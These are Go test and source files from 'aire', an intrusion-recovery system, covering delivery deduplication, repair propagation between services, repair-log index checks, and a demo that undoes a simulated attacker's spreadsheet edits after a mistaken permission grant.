		t.Fatalf("retry after failed apply was not re-applied: %v %+v", err, resp)
	}
	if got := string(tb.call("b", wire.NewRequest("GET", "/get").WithForm("key", "k")).Body); got != "x" {
		t.Fatalf("state = %q, want %q", got, "x")
	}
}

// TestBatchIncomingGateCommitsAtApplyTime: with Config.BatchIncoming, a
// 202-accepted delivery is not yet applied — a redelivery before
// ProcessIncoming must be answered retryably (not acked for an apply that
// has not happened), and after the batch applies, a duplicate create is
// re-acked with the minted request ID.
func TestBatchIncomingGateCommitsAtApplyTime(t *testing.T) {
	tb := newTestbed()
	cfg := DefaultConfig()
	cfg.BatchIncoming = true
	b := tb.add(&kvApp{name: "b"}, cfg)

	create := carrier(warp.OutCreate, "",
		wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "v1"),
		"a", "a-dlv-1", 0)

	if resp, err := tb.bus.Call("a", "b", create); err != nil || resp.Status != 202 {
		t.Fatalf("batched create: %v %+v", err, resp)
	}
	// Redelivery while the batch is pending: retryable, not acknowledged.
	if resp, err := tb.bus.Call("a", "b", create.Clone()); err != nil || resp.Status != 503 {
		t.Fatalf("redelivery before apply = %v %+v, want 503 (in flight)", err, resp)
	}

	res, err := b.ProcessIncoming()
	if err != nil || len(res.CreatedIDs) != 1 {
		t.Fatalf("batch apply: %v %+v", err, res)
	}
	resp, err := tb.bus.Call("a", "b", create.Clone())
	if err != nil || !resp.OK() {
		t.Fatalf("redelivery after apply: %v %+v", err, resp)
	}
	if got := resp.Header[wire.HdrRequestID]; got != res.CreatedIDs[0] {
		t.Fatalf("duplicate create re-ack = %q, want the minted ID %q", got, res.CreatedIDs[0])
	}
	if got := b.Svc.Log.Len(); got != 1 {
		t.Fatalf("log has %d records, want 1 (no double mint)", got)
	}
}

// TestPumpStampsDeliveryHeaders: end-to-end, the pump's carriers arrive
// with delivery identity, and a full repair round-trip between two
// controllers is deduplicated on redelivery.
func TestPumpStampsDeliveryHeaders(t *testing.T) {
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	b := tb.add(&kvApp{name: "b"}, DefaultConfig())

	var mu sync.Mutex
	var seen []wire.Request
	tb.bus.Register("b", transport.HandlerFunc(func(from string, req wire.Request) wire.Response {
		if req.Path == "/aire/repair" {
			mu.Lock()
			seen = append(seen, req.Clone())
			mu.Unlock()
		}
		return b.HandleWire(from, req)
	}))

	tb.call("a", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "evil"))
	attack := tb.call("a", wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "evil2"))
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	tb.settle(20)

	mu.Lock()
	defer mu.Unlock()
	if len(seen) == 0 {
		t.Fatal("no repair carrier reached b")
	}
	for _, req := range seen {
		if req.Header[wire.HdrDeliveryID] == "" || req.Header[wire.HdrOrigin] != "a" || req.Header[wire.HdrGeneration] == "" {
			t.Fatalf("carrier missing delivery identity: %+v", req.Header)
		}
	}
}
