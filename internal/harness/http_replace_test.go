package harness

import (
	"context"
	"net/http/httptest"
	"testing"
	"time"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// TestReplaceRepairNotifyOverRealHTTP drives the full replace repair flow
// over transport/httpadapter real sockets: a replace at service a crosses
// HTTP to b, b's changed response comes back as a replace_response via the
// notify → fetch_repair token handshake (two more HTTP round trips), and
// a's tentative call record is corrected — all delivered by the background
// pump, not manual flushing. The existing TestRepairOverRealHTTP covers
// only the delete path; this covers the other three repair-plane
// endpoints (/aire/repair replace, /aire/notify, /aire/fetch_repair).
func TestReplaceRepairNotifyOverRealHTTP(t *testing.T) {
	caller := &transport.HTTPCaller{BaseURLs: map[string]string{}}
	// simApp echoes the stored value, so a replaced write changes the
	// mirrored call's response and forces the notify handshake.
	ctrlA := core.NewController(&simApp{name: "a", peers: []string{"b"}}, caller, core.DefaultConfig())
	ctrlB := core.NewController(&simApp{name: "b"}, caller, core.DefaultConfig())

	srvA := httptest.NewServer(transport.NewHTTPHandler(ctrlA))
	defer srvA.Close()
	srvB := httptest.NewServer(transport.NewHTTPHandler(ctrlB))
	defer srvB.Close()
	caller.BaseURLs["a"] = srvA.URL
	caller.BaseURLs["b"] = srvB.URL

	call := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := caller.Call("", svc, req)
		if err != nil {
			t.Fatalf("%s: %v", svc, err)
		}
		return resp
	}

	put := call("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	if !put.OK() {
		t.Fatalf("put: %+v", put)
	}
	if got := string(call("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "evil" {
		t.Fatalf("b mirrored %q, want %q", got, "evil")
	}

	stop, err := core.StartPumps(context.Background(), ctrlA, ctrlB)
	if err != nil {
		t.Fatal(err)
	}
	defer stop()

	// Replace the attack write in place; the pump propagates it.
	if _, err := ctrlA.ApplyLocal(warp.Action{
		Kind: warp.ReplaceReq, ReqID: put.Header[wire.HdrRequestID],
		NewReq: wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "fixed"),
	}); err != nil {
		t.Fatal(err)
	}

	// a's queue drains once the replace lands on b; by then b has queued
	// its replace_response, so waiting a-then-b is race-free.
	if !ctrlA.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("replace not delivered over HTTP: %+v", ctrlA.Pending())
	}
	if !ctrlB.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("replace_response not delivered over HTTP: %+v", ctrlB.Pending())
	}

	for svc, want := range map[string]string{"a": "fixed", "b": "fixed"} {
		if got := string(call(svc, wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != want {
			t.Fatalf("%s after replace = %q, want %q", svc, got, want)
		}
	}
	// The notify handshake corrected a's tentative call record: the logged
	// mirror call now carries b's re-executed response, not the repair
	// placeholder.
	ctrlA.Svc.Mu.Lock()
	defer ctrlA.Svc.Mu.Unlock()
	rec, ok := ctrlA.Svc.Log.Get(put.Header[wire.HdrRequestID])
	if !ok || len(rec.Calls) != 1 {
		t.Fatalf("repaired record missing or call count wrong: %+v", rec)
	}
	if rec.Calls[0].Tentative || string(rec.Calls[0].Resp.Body) != "fixed" {
		t.Fatalf("call record not corrected by replace_response: tentative=%v resp=%q",
			rec.Calls[0].Tentative, rec.Calls[0].Resp.Body)
	}
}
