package harness

import (
	"testing"

	"aire/internal/core"
)

func TestMeasureOverheadSmoke(t *testing.T) {
	for _, wl := range []string{"read", "write"} {
		row, err := MeasureOverhead(wl, 30, 10)
		if err != nil {
			t.Fatalf("%s: %v", wl, err)
		}
		if row.BaseThroughput <= 0 || row.AireThroughput <= 0 {
			t.Fatalf("%s: zero throughput: %+v", wl, row)
		}
		// Aire must cost something but not be absurd (paper: 19-30%).
		if row.AireThroughput > row.BaseThroughput {
			t.Logf("%s: Aire faster than baseline (%.0f vs %.0f req/s) — noise at small n", wl, row.AireThroughput, row.BaseThroughput)
		}
		if row.LogKBPerReq <= 0 {
			t.Fatalf("%s: no log growth recorded: %+v", wl, row)
		}
		t.Logf("%s: base=%.0f req/s aire=%.0f req/s overhead=%.1f%% log=%.2f KB/req db=%.2f KB/req",
			wl, row.BaseThroughput, row.AireThroughput, row.OverheadPct, row.LogKBPerReq, row.DBKBPerReq)
	}
}

func TestMeasureRepairSmoke(t *testing.T) {
	res, err := MeasureRepair(10, 3, core.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Fatalf("rows = %d", len(res.Rows))
	}
	for _, r := range res.Rows {
		t.Logf("%-8s repaired %d/%d requests, %d/%d model ops, %d msgs, repair %v",
			r.Service, r.RepairedRequests, r.TotalRequests, r.RepairedModelOps, r.TotalModelOps, r.MsgsSent, r.RepairTime)
		if r.TotalRequests == 0 {
			t.Fatalf("%s: no requests logged", r.Service)
		}
		// Selective re-execution: strictly fewer repaired than total.
		if r.RepairedRequests >= r.TotalRequests {
			t.Fatalf("%s: repair not selective (%d/%d)", r.Service, r.RepairedRequests, r.TotalRequests)
		}
	}
	// Messages flowed: oauth -> askbot (replace_response), askbot -> dpaste
	// (delete).
	var oauthMsgs, askbotMsgs int64
	for _, r := range res.Rows {
		switch r.Service {
		case "oauth":
			oauthMsgs = r.MsgsSent
		case "askbot":
			askbotMsgs = r.MsgsSent
		}
	}
	if oauthMsgs == 0 || askbotMsgs == 0 {
		t.Fatalf("expected repair messages from oauth (%d) and askbot (%d)", oauthMsgs, askbotMsgs)
	}
}
