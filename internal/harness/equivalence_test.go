package harness

// Randomized index-equivalence tests (ISSUE 4): the secondary indexes in
// vdb and repairlog, and the index-driven repair walk in warp, must be
// observationally identical to the retained linear-scan reference
// implementations. Each seed's simulation workload grows an organically
// messy state — creates inserted into the past, re-repairs, GC'd prefixes,
// crash-restored logs — and both the per-lookup results and the end-to-end
// repair outcomes are compared.

import (
	"fmt"
	"reflect"
	"testing"

	"aire/internal/simnet"
)

// equivCfg is a composite workload exercising every index: replaces and
// cancels (rollback + re-execution), re-repairs (queue collapsing),
// creates (past insertion, NeighborCalls anchors), crash-restarts
// (Restore/Append index rebuilds), and delay/duplicate faults
// (FindByCallRespID on redelivered acknowledgments).
func equivCfg(seed int64) SimConfig {
	return SimConfig{
		Seed:      seed,
		Services:  3,
		Topology:  "chain",
		Repairs:   4,
		Rerepairs: 2,
		Creates:   2,
		CrashRate: 0.05,
		Faults:    simnet.FaultPlan{Drop: 0.1, DropResponse: 0.1, Duplicate: 0.1, Delay: 0.15},
	}
}

// inspectIndexes cross-checks every indexed lookup against its linear
// reference on each service's quiesced state.
func inspectIndexes(t *testing.T, seed int64) func(w *simWorld) {
	return func(w *simWorld) {
		for _, name := range w.order {
			c := w.ctrls[name]
			c.Svc.Mu.Lock()
			l := c.Svc.Log
			st := c.Svc.Store
			for _, rec := range l.All() {
				for _, call := range rec.Calls {
					if call.RespID == "" {
						continue
					}
					ri, ii, oki := l.FindByCallRespID(call.RespID)
					rl, il, okl := l.FindByCallRespIDLinear(call.RespID)
					if oki != okl || (oki && (ri != rl || ii != il)) {
						t.Errorf("seed %d %s: FindByCallRespID(%q) diverged from linear reference", seed, name, call.RespID)
					}
				}
				for _, target := range w.order {
					for _, ts := range []int64{rec.TS - 1, rec.TS, rec.TS + 1} {
						bi, ai := l.NeighborCalls(target, ts)
						bl, al := l.NeighborCallsLinear(target, ts)
						if bi != bl || ai != al {
							t.Errorf("seed %d %s: NeighborCalls(%q, %d) = %q,%q; linear %q,%q", seed, name, target, ts, bi, ai, bl, al)
						}
					}
				}
				if gi, gl := st.ScanHashAtExcluding("kv", rec.TS, rec.ID), st.ScanHashAtExcludingLinear("kv", rec.TS, rec.ID); gi != gl {
					t.Errorf("seed %d %s: ScanHashAtExcluding(kv, %d, %s) = %#x, linear %#x", seed, name, rec.TS, rec.ID, gi, gl)
				}
				if gi, gl := st.ScanHashAt("kv", rec.TS), st.ScanHashAtLinear("kv", rec.TS); gi != gl {
					t.Errorf("seed %d %s: ScanHashAt(kv, %d) = %#x, linear %#x", seed, name, rec.TS, gi, gl)
				}
				if gi, gl := st.IDsAt("kv", rec.TS), st.IDsAtLinear("kv", rec.TS); !reflect.DeepEqual(gi, gl) {
					t.Errorf("seed %d %s: IDsAt(kv, %d) = %v, linear %v", seed, name, rec.TS, gi, gl)
				}
			}
			if _, _, ok := l.FindByCallRespID("no-such-resp"); ok {
				t.Errorf("seed %d %s: FindByCallRespID invented a record", seed, name)
			}
			c.Svc.Mu.Unlock()
		}
	}
}

// TestIndexEquivalenceOnSimWorkloads runs the composite sim workload on
// seeds 1–20. For each seed the indexed run's quiesced state is
// lookup-by-lookup compared with the linear references (via the inspect
// hook), and the whole run is repeated with every engine forced to the
// pre-index linear walk (warp.Config.LinearScan): the two runs must agree
// on every field of the result — same repairs, same convergence, same
// fault schedule, same state digest — proving the index-driven findAffected
// repairs exactly the records the full-timeline walk would.
func TestIndexEquivalenceOnSimWorkloads(t *testing.T) {
	for seed := int64(1); seed <= 20; seed++ {
		seed := seed
		t.Run(fmt.Sprintf("seed=%d", seed), func(t *testing.T) {
			cfg := equivCfg(seed)
			cfg.inspect = inspectIndexes(t, seed)
			indexed, err := RunSim(cfg)
			if err != nil {
				t.Fatalf("seed %d (indexed): %v", seed, err)
			}
			if !indexed.Passed {
				t.Fatalf("seed %d (indexed) failed the convergence oracle: %v", seed, indexed.Failures)
			}

			lcfg := equivCfg(seed)
			lcfg.LinearScan = true
			linear, err := RunSim(lcfg)
			if err != nil {
				t.Fatalf("seed %d (linear): %v", seed, err)
			}
			if !linear.Passed {
				t.Fatalf("seed %d (linear) failed the convergence oracle: %v", seed, linear.Failures)
			}
			if !reflect.DeepEqual(indexed, linear) {
				t.Errorf("seed %d: indexed and linear runs diverged:\n  indexed: %+v\n  linear:  %+v", seed, indexed, linear)
			}
		})
	}
}
