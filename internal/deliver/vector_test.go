package deliver

import (
	"fmt"
	"testing"
)

// Unit tests for the inbox's version-vector mode (ObserveVector): ack
// compaction, gap detection, idempotent replay (the in-vv WAL op re-feeds
// observations on recovery), persistence of the vector fields, and the
// eviction-suspension memory contract.

// TestObserveVectorCompaction: advancing the acked prefix releases every
// committed entry it covers — and only those — while the counts and Len
// agree.
func TestObserveVectorCompaction(t *testing.T) {
	ib := NewInbox(0)
	ib.EnableVectors()
	fill(t, ib, "s0", 1, 6) // seqs 1..6 committed
	obs := ib.ObserveVector("s0", 4, 6, 0)
	if obs.Compacted != 4 {
		t.Fatalf("acked=4 compacted %d entries, want 4", obs.Compacted)
	}
	if ib.Len() != 2 {
		t.Fatalf("Len()=%d after compaction, want 2 (seqs 5,6)", ib.Len())
	}
	// Inside the prefix: Duplicate with no entry to consult. Above it: the
	// live entries still answer.
	if d, _ := ib.Begin("s0", "s0-dlv-3", 0, false); d != Duplicate {
		t.Fatalf("compacted seq 3: got %v, want Duplicate", d)
	}
	if d, out := ib.Begin("s0", "s0-dlv-5", 0, false); d != Duplicate || out != "ok" {
		t.Fatalf("live seq 5: got %v outcome %q, want Duplicate with recorded outcome", d, out)
	}
}

// TestObserveVectorPendingNotCompacted: a pending (mid-apply) entry is
// never compacted, even if a (buggy or duplicated) announcement claims the
// prefix covers it — compacting a reservation would let a racing second
// copy re-apply.
func TestObserveVectorPendingNotCompacted(t *testing.T) {
	ib := NewInbox(0)
	ib.EnableVectors()
	if d, _ := ib.Begin("s0", "s0-dlv-1", 0, false); d != Apply {
		t.Fatal("setup: not Apply")
	}
	obs := ib.ObserveVector("s0", 1, 1, 0)
	if obs.Compacted != 0 || ib.Len() != 1 {
		t.Fatalf("pending entry compacted (n=%d len=%d)", obs.Compacted, ib.Len())
	}
	if d, _ := ib.Begin("s0", "s0-dlv-1", 0, false); d != InFlight {
		t.Fatal("second copy of the pending delivery must stay InFlight")
	}
}

// TestObserveVectorGapRules exercises both gap signals: an acked prefix
// stopping more than one short of the carrier's own sequence, and a
// frontier beyond everything seen; and the quiet cases in between.
func TestObserveVectorGapRules(t *testing.T) {
	ib := NewInbox(0)
	ib.EnableVectors()
	// Contiguous arrival: carrier seq 1, nothing acked yet — no gap (the
	// prefix stops exactly one short: this very carrier).
	if obs := ib.ObserveVector("s0", 0, 1, 1); obs.Gap {
		t.Fatal("contiguous first carrier flagged a gap")
	}
	fill(t, ib, "s0", 1, 1)
	// Carrier seq 3 announcing acked=1: seq 2 is outstanding somewhere —
	// in flight or lost — so the receiver NACKs (err-on-NACK is safe).
	if obs := ib.ObserveVector("s0", 1, 3, 3); !obs.Gap {
		t.Fatal("acked+1 < curSeq did not flag a gap")
	}
	// A sequence-less carrier (curSeq 0, e.g. a notify) announcing a
	// frontier beyond everything committed: the newest delivery never
	// arrived here.
	if obs := ib.ObserveVector("s0", 1, 9, 0); !obs.Gap {
		t.Fatal("frontier beyond maxSeen did not flag a gap")
	}
	// Frontier covered by the acked prefix: everything it stamped was
	// resolved; nothing to chase.
	if obs := ib.ObserveVector("s0", 9, 9, 0); obs.Gap {
		t.Fatal("fully acked frontier flagged a gap")
	}
}

// TestObserveVectorIdempotentReplay: ObserveVector is a monotonic max, so
// replaying an observation (the WAL recovery path re-feeds in-vv ops) is a
// no-op: no advance, nothing more to compact, no regression of the prefix.
func TestObserveVectorIdempotentReplay(t *testing.T) {
	ib := NewInbox(0)
	ib.EnableVectors()
	fill(t, ib, "s0", 1, 3)
	first := ib.ObserveVector("s0", 3, 3, 0)
	if !first.Advanced || first.Compacted != 3 {
		t.Fatalf("first observation: %+v", first)
	}
	replay := ib.ObserveVector("s0", 3, 3, 0)
	if replay.Advanced || replay.Compacted != 0 {
		t.Fatalf("replayed observation was not a no-op: %+v", replay)
	}
	stale := ib.ObserveVector("s0", 1, 1, 0)
	if stale.Advanced || stale.Acked != 3 {
		t.Fatalf("older observation regressed the prefix: %+v", stale)
	}
}

// TestVectorFieldsSurviveRestart: the acked prefix must be exactly as
// durable as the compaction it justified — a restored inbox classifies a
// compacted delivery's ghost as Duplicate, not Apply.
func TestVectorFieldsSurviveRestart(t *testing.T) {
	ib := NewInbox(0)
	ib.EnableVectors()
	fill(t, ib, "s0", 1, 4)
	ib.ObserveVector("s0", 4, 4, 0) // compacts all four

	restored := NewInbox(0)
	restored.EnableVectors()
	restored.Restore(ib.Dump())
	if d, _ := restored.Begin("s0", "s0-dlv-2", 0, false); d != Duplicate {
		t.Fatalf("ghost of a compacted delivery after restore: got %v, want Duplicate", d)
	}
	// The restored frontier keeps gap detection armed.
	if obs := restored.ObserveVector("s0", 4, 9, 9); !obs.Gap {
		t.Fatal("restored inbox lost gap detection (acked=4, carrier seq 9)")
	}
}

// TestAnnouncingOriginMemoryContract: announcing origins suspend LRU
// eviction (nothing unacked is ever forgotten), may transiently exceed the
// cap by the sender's unacked window, and shrink back the moment the
// prefix advances — the high-water mark records the excursion.
func TestAnnouncingOriginMemoryContract(t *testing.T) {
	const cap = 4
	ib := NewInbox(cap)
	ib.EnableVectors()
	for seq := uint64(1); seq <= 3*cap; seq++ {
		id := fmt.Sprintf("s0-dlv-%d", seq)
		ib.ObserveVector("s0", 0, seq, seq) // sender resolves nothing yet
		if d, _ := ib.Begin("s0", id, 0, false); d != Apply {
			t.Fatalf("%s: got %v, want Apply", id, d)
		}
		ib.Commit("s0", id, 0, "ok", int64(seq))
	}
	if ib.Len() != 3*cap {
		t.Fatalf("announcing origin evicted: Len()=%d, want %d (eviction suspended)", ib.Len(), 3*cap)
	}
	ib.ObserveVector("s0", 3*cap, 3*cap, 0)
	if ib.Len() != 0 {
		t.Fatalf("Len()=%d after full ack, want 0", ib.Len())
	}
	if hw := ib.HighWater(); hw != 3*cap {
		t.Fatalf("HighWater()=%d, want %d", hw, 3*cap)
	}
	// A vectors-off origin in the same inbox still obeys the LRU cap.
	fill(t, ib, "legacy", 1, 3*cap)
	if ib.Len() != cap {
		t.Fatalf("never-announcing origin: Len()=%d, want cap %d", ib.Len(), cap)
	}
}
