// Command spreadsheet_acl replays the paper's lax-permissions scenario
// (§7.1, Figure 5): an administrator mistakenly adds an attacker to the
// master access-control list held by an ACL directory service; a script
// distributes the permission to two spreadsheet services; the attacker
// corrupts cells on both. Cancelling the administrator's mistake on the
// directory undoes the privilege grant and every write that exploited it,
// while preserving legitimate edits. It then demonstrates the branching
// versioned-cell API of Figure 3.
package main

import (
	"fmt"
	"log"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/wire"
)

func main() {
	s := harness.NewSheetScenario(false, core.DefaultConfig())
	s.RunLegitTraffic()
	fmt.Println("== setup: ACL directory + spreadsheets A and B; alice writes budget=100 ==")

	if err := s.RunLaxPermissionAttack(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("== attack: admin ACL mistake distributed; mallory corrupts 'budget' on A and B ==")
	showCell(s, "sheetA", "budget")
	showCell(s, "sheetB", "budget")

	if err := s.Repair(); err != nil {
		log.Fatal(err)
	}
	if problems := s.Verify(); len(problems) > 0 {
		log.Fatalf("repair incomplete: %v", problems)
	}
	fmt.Println("\n== recovery: admin cancels the ACL mistakes on the directory ==")
	showCell(s, "sheetA", "budget")
	showCell(s, "sheetB", "budget")
	if resp := s.TB.Call("sheetA", wire.NewRequest("POST", "/set").
		WithForm("cell", "x", "value", "y", "user", harness.AttackerUser).
		WithHeader("X-User-Token", harness.AttackerToken)); !resp.OK() {
		fmt.Println("mallory's write access is revoked:", resp.Status, string(resp.Body))
	}

	// The branching version history of Figure 3: the corrupt version still
	// exists (history is preserved), but the current pointer moved to the
	// repaired branch.
	fmt.Println("\n== Figure 3: version history of sheetA 'budget' after repair ==")
	vers := s.TB.Call("sheetA", wire.NewRequest("GET", "/versions").WithForm("cell", "budget"))
	fmt.Print(string(vers.Body))
	branch := s.TB.Call("sheetA", wire.NewRequest("GET", "/branch").WithForm("cell", "budget"))
	fmt.Println("current branch (oldest->newest):")
	fmt.Print(string(branch.Body))
}

func showCell(s *harness.SheetScenario, svc, cell string) {
	resp := s.TB.Call(svc, wire.NewRequest("GET", "/get").WithForm("cell", cell))
	fmt.Printf("  %s %s = %q\n", svc, cell, resp.Body)
}
