package repairlog

import (
	"fmt"
	"strings"
	"testing"

	"aire/internal/vdb"
)

// buildVerifyLog exercises every index-mutating path: appends (including
// out-of-order timestamps), in-place rewrite + Resync, Update, and GC.
func buildVerifyLog(t *testing.T) *Log {
	t.Helper()
	l := New(false)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	key := func(id string) vdb.Key { return vdb.Key{Model: "kv", ID: id} }
	must(l.Append(&Record{
		ID: "req-1", TS: 10,
		Reads:  []ReadDep{{Key: key("x"), TS: 0, Hash: 0}},
		Writes: []WriteDep{{Key: key("x"), TS: 10}},
		Calls: []Call{
			{Seq: 0, Target: "mirror", RespID: "resp-1", RemoteReqID: "mirror-req-1"},
		},
	}))
	must(l.Append(&Record{
		ID: "req-2", TS: 20,
		Reads: []ReadDep{{Key: key("x"), TS: 10, Hash: 7}, {Key: key("x"), TS: 10, Hash: 7}}, // dup dep indexes once
		Scans: []ScanDep{{Model: "kv", Hash: 3}},
		Calls: []Call{
			{Seq: 0, Target: "mirror", RespID: "resp-2", RemoteReqID: "mirror-req-2"},
			{Seq: 1, Target: "audit", RespID: "resp-3", RemoteReqID: "audit-req-1"},
		},
	}))
	// A create repair appends into the past.
	must(l.Append(&Record{ID: "req-3", TS: 15, Synthetic: true, Writes: []WriteDep{{Key: key("y"), TS: 15}}}))
	// Re-execution rewrites a record in place, then resyncs.
	rec, _ := l.Get("req-2")
	rec.Calls[0].RespID = "resp-2b"
	rec.Reads = []ReadDep{{Key: key("y"), TS: 15, Hash: 9}}
	must(l.Resync("req-2"))
	must(l.Update("req-1", func(r *Record) { r.RepairGen++ }))
	must(l.Append(&Record{ID: "req-0", TS: 1, Writes: []WriteDep{{Key: key("z"), TS: 1}}}))
	l.GC(5) // drops req-0
	return l
}

func TestLogVerifyIndexesHealthy(t *testing.T) {
	l := buildVerifyLog(t)
	if err := l.VerifyIndexes(); err != nil {
		t.Fatalf("healthy log failed verification: %v", err)
	}
	if err := New(false).VerifyIndexes(); err != nil {
		t.Fatalf("empty log failed verification: %v", err)
	}
}

func TestLogVerifyIndexesDetectsCorruption(t *testing.T) {
	key := func(id string) vdb.Key { return vdb.Key{Model: "kv", ID: id} }
	cases := []struct {
		name    string
		corrupt func(*Log)
		want    string
	}{
		{
			name:    "dropped respIdx entry",
			corrupt: func(l *Log) { delete(l.respIdx, "resp-1") },
			want:    "missing from respIdx",
		},
		{
			name: "respIdx points at wrong call",
			corrupt: func(l *Log) {
				pos := l.respIdx["resp-3"]
				pos.idx = 0
				l.respIdx["resp-3"] = pos
			},
			want: "names record",
		},
		{
			name:    "stale respIdx entry",
			corrupt: func(l *Log) { l.respIdx["resp-ghost"] = l.respIdx["resp-1"] },
			want:    "respIdx holds",
		},
		{
			name:    "totalOps drift",
			corrupt: func(l *Log) { l.totalOps++ },
			want:    "totalOps drift",
		},
		{
			name:    "dropped call site",
			corrupt: func(l *Log) { delete(l.calls, "audit") },
			want:    "missing from the call timeline",
		},
		{
			name: "dropped reader ref",
			corrupt: func(l *Log) {
				refs := l.readers[key("y")]
				l.readers[key("y")] = refs[:len(refs)-1]
			},
			want: "missing from readers",
		},
		{
			name: "stale writer ref",
			corrupt: func(l *Log) {
				ghost := &Record{ID: "ghost", TS: 99, seq: 999}
				l.writers[key("x")] = insertRef(l.writers[key("x")], ghost)
			},
			want: "not in the log",
		},
		{
			name: "ref position diverged",
			corrupt: func(l *Log) {
				refs := l.scanners["kv"]
				refs[0].Seq++
				// keep the list sorted so the divergence check is what fires
			},
			want: "diverged",
		},
		{
			name:    "byID/order split",
			corrupt: func(l *Log) { delete(l.byID, "req-3") },
			want:    "records on the timeline",
		},
		{
			name:    "timeline unsorted",
			corrupt: func(l *Log) { l.order[0], l.order[1] = l.order[1], l.order[0] },
			want:    "timeline unsorted",
		},
		{
			name:    "test hook",
			corrupt: func(l *Log) { l.CorruptRespIndexForTest() },
			want:    "respIdx",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			l := buildVerifyLog(t)
			if err := l.VerifyIndexes(); err != nil {
				t.Fatalf("pre-corruption: %v", err)
			}
			tc.corrupt(l)
			err := l.VerifyIndexes()
			if err == nil {
				t.Fatal("corruption not detected")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q does not mention %q", err, tc.want)
			}
		})
	}
}

// The hook must fire even on a log with no identified calls.
func TestCorruptHookOnEmptyRespIdx(t *testing.T) {
	l := New(false)
	if err := l.Append(&Record{ID: "r1", TS: 1, Writes: []WriteDep{{Key: vdb.Key{Model: "kv", ID: "x"}, TS: 1}}}); err != nil {
		t.Fatal(err)
	}
	l.CorruptRespIndexForTest()
	if err := l.VerifyIndexes(); err == nil {
		t.Fatal("corruption not detected")
	} else if !strings.Contains(err.Error(), "totalOps drift") {
		t.Fatalf("unexpected error: %v", err)
	}
}

// Verification on a log under churn stays coherent: append/update/GC in a
// loop, verifying at each step (catches ordering bugs the single-shot
// builder misses).
func TestVerifyIndexesUnderChurn(t *testing.T) {
	l := New(false)
	key := func(i int) vdb.Key { return vdb.Key{Model: "m", ID: fmt.Sprintf("k%d", i%5)} }
	for i := 0; i < 60; i++ {
		r := &Record{
			ID: fmt.Sprintf("req-%d", i), TS: int64((i * 7) % 40),
			Reads:  []ReadDep{{Key: key(i)}},
			Writes: []WriteDep{{Key: key(i + 1)}},
		}
		if i%3 == 0 {
			r.Calls = []Call{{Target: "peer", RespID: fmt.Sprintf("resp-%d", i), RemoteReqID: fmt.Sprintf("remote-%d", i)}}
		}
		if err := l.Append(r); err != nil {
			t.Fatal(err)
		}
		if i%4 == 0 {
			if err := l.Update(r.ID, func(rec *Record) { rec.Scans = append(rec.Scans, ScanDep{Model: "m"}) }); err != nil {
				t.Fatal(err)
			}
		}
		if i%10 == 9 {
			l.GC(int64(i % 15))
		}
		if err := l.VerifyIndexes(); err != nil {
			t.Fatalf("step %d: %v", i, err)
		}
	}
}
