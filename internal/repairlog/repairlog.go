// Package repairlog implements Aire's per-service repair log (§2.1, §2.2).
//
// During normal operation the log records every handled request together
// with its response, the database versions it read and wrote, the outgoing
// HTTP calls it made (and the Aire identifiers exchanged on them), and its
// recorded sources of nondeterminism. Local repair walks this log to find
// requests affected by an attack, re-executes them, and updates their
// records in place so that an already-repaired request can be repaired again
// (§2.2: "a future repair can perform recovery on an already repaired
// request").
package repairlog

import (
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"

	"aire/internal/vdb"
	"aire/internal/wire"
)

// ReadDep records one object read: the key, the timestamp of the version
// observed (0 when the read missed), and a fingerprint of the value read.
// Repair re-evaluates the read against the current store: the reader is
// affected only if the fingerprint changed.
type ReadDep struct {
	Key  vdb.Key `json:"key"`
	TS   int64   `json:"ts"`
	Hash uint64  `json:"hash"`
}

// ScanDep records one list query over a model: a fingerprint of the set of
// live objects (IDs and values) visible at read time.
type ScanDep struct {
	Model string `json:"model"`
	Hash  uint64 `json:"hash"`
}

// WriteDep records one object write: the key and the version timestamp.
type WriteDep struct {
	Key vdb.Key `json:"key"`
	TS  int64   `json:"ts"`
}

// Nondet records one consumed source of nondeterminism (kind "now" or
// "rand"), replayed in order during re-execution so local repair is stable
// (§3.3).
type Nondet struct {
	Kind  string `json:"kind"`
	Value int64  `json:"value"`
}

// Call records one outgoing HTTP call made while handling a request.
type Call struct {
	// Seq is the call's position within the handling request.
	Seq int `json:"seq"`
	// Target is the peer service the call was sent to.
	Target string `json:"target"`
	// RespID is the Aire-Response-Id this service assigned; it names the
	// peer's response for a later replace_response (§3.1).
	RespID string `json:"resp_id"`
	// RemoteReqID is the Aire-Request-Id the peer assigned; it names our
	// request on the peer for later replace/delete repair calls.
	RemoteReqID string `json:"remote_req_id"`
	// Req and Resp are the call's current (possibly repaired) payloads.
	Req  wire.Request  `json:"req"`
	Resp wire.Response `json:"resp"`
	// Tentative marks a response that is a placeholder timeout produced
	// during repair (§3.2); the true response arrives later via
	// replace_response.
	Tentative bool `json:"tentative,omitempty"`
	// Failed marks a call whose delivery failed during normal operation.
	Failed bool `json:"failed,omitempty"`
}

// Effect records one external side effect (e.g. sending email). Effects
// cannot be undone by rollback; when re-execution changes an effect's
// payload, the repair engine runs a compensating action (§7.1: the daily
// summary email notifies the administrator of the new contents).
type Effect struct {
	Seq     int    `json:"seq"`
	Kind    string `json:"kind"`
	Payload string `json:"payload"`
}

// Record is the log entry for one handled request.
type Record struct {
	// ID is the Aire-Request-Id this service assigned to the request.
